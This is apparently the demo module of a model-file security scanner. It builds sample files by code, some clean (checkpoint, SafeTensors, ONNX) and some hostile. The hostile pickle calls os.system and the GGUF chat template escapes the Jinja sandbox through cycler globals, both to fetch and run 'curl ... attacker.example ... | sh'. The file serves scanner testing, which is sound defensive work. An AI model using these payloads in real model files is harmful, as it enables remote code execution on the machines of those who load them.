"""`airlock demo`: sample files built by code, so a new user sees the app at work at once.

Written into a fresh temporary folder: a clean PyTorch-style checkpoint (a zip with a pickle
written opcode by opcode, no torch needed), a hostile pickle that would run a shell command, a
GGUF model whose chat template escapes the Jinja sandbox, a clean SafeTensors file and an ONNX
classifier with one custom operator (demo_onnx.py), which the graph view highlights.
Nothing here is ever loaded: the files are only written, then scanned.
"""

from __future__ import annotations

import builtins
import io
import json
import os
import struct
import tempfile
import zipfile

CLEAN_CHECKPOINT = "clean_checkpoint.pt"
HOSTILE_PICKLE = "hostile_model.pkl"
GGUF_MODEL = "chat_model.gguf"
SAFETENSORS_MODEL = "small_model.safetensors"

HOSTILE_TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>\n{{ message['content'] }}\n{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('curl -s https://attacker.example/p.sh | sh').read() }}"
    "<|assistant|>\n"
)


class _Pickle:
    """Just enough of a pickle writer for the demo files, opcode by opcode (protocol 2)."""

    def __init__(self) -> None:
        self.out = bytearray(b"\x80\x02")

    def op(self, code: bytes) -> _Pickle:
        self.out += code
        return self

    def glob(self, module: str, name: str) -> _Pickle:
        return self.op(b"c" + f"{module}\n{name}\n".encode())

    def text(self, s: str) -> _Pickle:
        raw = s.encode()
        return self.op(b"X" + struct.pack("<I", len(raw)) + raw)

    def int(self, n: int) -> _Pickle:
        return self.op(b"J" + struct.pack("<i", n))

    def tuple_of_ints(self, values: tuple[builtins.int, ...]) -> _Pickle:  # `int` is a method here
        self.op(b"(")
        for v in values:
            self.int(v)
        return self.op(b"t")

    def bytes(self) -> bytes:
        return bytes(self.out + b".")


def _floats(n: int, seed: int, scale: float = 0.02) -> bytes:
    """Normal-looking float32 values without numpy (a small LCG and a Box-Muller transform)."""
    import math

    state = seed or 1
    values = []
    for _ in range(n):
        state = (1103515245 * state + 12345) % 2**31
        u1 = (state + 1) / 2**31
        state = (1103515245 * state + 12345) % 2**31
        u2 = state / 2**31
        values.append(scale * math.sqrt(-2 * math.log(u1)) * math.cos(2 * math.pi * u2))
    return struct.pack(f"<{n}f", *values)


def clean_checkpoint_bytes() -> bytes:
    """A zip laid out like torch.save's: archive/data.pkl refers to storages in archive/data/N."""
    tensors = [("encoder.weight", (16, 8)), ("encoder.bias", (16,)), ("head.weight", (4, 16))]
    p = _Pickle().glob("collections", "OrderedDict").op(b")R").op(b"(")
    storages = {}
    for i, (name, shape) in enumerate(tensors):
        numel = 1
        for d in shape:
            numel *= d
        strides = tuple(int(s) for s in _strides(shape))
        p.text(name).glob("torch._utils", "_rebuild_tensor_v2").op(b"(")
        p.op(b"(").text("storage").glob("torch", "FloatStorage").text(str(i)).text("cpu").int(numel).op(b"tQ")
        p.int(0).tuple_of_ints(shape).tuple_of_ints(strides).op(b"\x89")
        p.glob("collections", "OrderedDict").op(b")R").op(b"tR")
        storages[str(i)] = _floats(numel, seed=i + 7)
    p.op(b"u")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", p.bytes())
        zf.writestr("archive/byteorder", "little")
        for key, data in storages.items():
            zf.writestr(f"archive/data/{key}", data)
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def _strides(shape: tuple[int, ...]) -> list[int]:
    out, step = [], 1
    for d in reversed(shape):
        out.append(step)
        step *= d
    return list(reversed(out))


def hostile_pickle_bytes() -> bytes:
    """Looks like a small training checkpoint; unpickling it runs a shell command (os.system)."""
    p = _Pickle().op(b"}").op(b"(")
    p.text("epoch").int(3)
    p.text("state_dict").op(b"}")
    p.text("hook").glob("os", "system").text("curl -s https://attacker.example/x.sh | sh").op(b"\x85R")
    return p.op(b"u").bytes()


def gguf_bytes(path: str) -> None:
    import numpy as np
    from gguf import GGUFWriter

    writer = GGUFWriter(path, "llama")
    writer.add_name("demo-chat")
    writer.add_context_length(2048)
    writer.add_chat_template(HOSTILE_TEMPLATE)
    rng = np.random.default_rng(3)
    writer.add_tensor("token_embd.weight", rng.normal(0, 0.05, (32, 16)).astype(np.float32))
    writer.add_tensor("output_norm.weight", np.ones(16, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def safetensors_bytes() -> bytes:
    tensors = [("model.embed_tokens.weight", (64, 32), 0.05),
               ("model.layers.0.self_attn.q_proj.weight", (32, 32), 0.1),
               ("model.layers.0.mlp.up_proj.weight", (64, 32), 0.03),
               ("model.norm.weight", (32,), 0.0)]
    header: dict[str, object] = {"__metadata__": {"format": "pt", "source": "airlock demo"}}
    blobs, offset = [], 0
    for i, (name, shape, scale) in enumerate(tensors):
        numel = 1
        for d in shape:
            numel *= d
        if scale:
            data = _floats(numel, seed=100 + i, scale=scale)
        else:
            data = struct.pack(f"<{numel}f", *[1.0] * numel)
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [offset, offset + len(data)]}
        blobs.append(data)
        offset += len(data)
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"".join(blobs)


def write_demo_files(folder: str | None = None) -> list[str]:
    """Write the sample files; returns their paths, the hostile pickle first."""
    folder = folder or tempfile.mkdtemp(prefix="airlock-demo-")
    paths = []
    for name, data in ((HOSTILE_PICKLE, hostile_pickle_bytes()), (CLEAN_CHECKPOINT, clean_checkpoint_bytes()),
                       (SAFETENSORS_MODEL, safetensors_bytes())):
        path = os.path.join(folder, name)
        with open(path, "wb") as fh:
            fh.write(data)
        paths.append(path)
    gguf_path = os.path.join(folder, GGUF_MODEL)
    gguf_bytes(gguf_path)
    paths.insert(2, gguf_path)
    from airlock.gui.demo_onnx import ONNX_MODEL, onnx_model_bytes  # the graph view's sample

    onnx_path = os.path.join(folder, ONNX_MODEL)
    with open(onnx_path, "wb") as fh:
        fh.write(onnx_model_bytes())
    paths.append(onnx_path)
    return paths
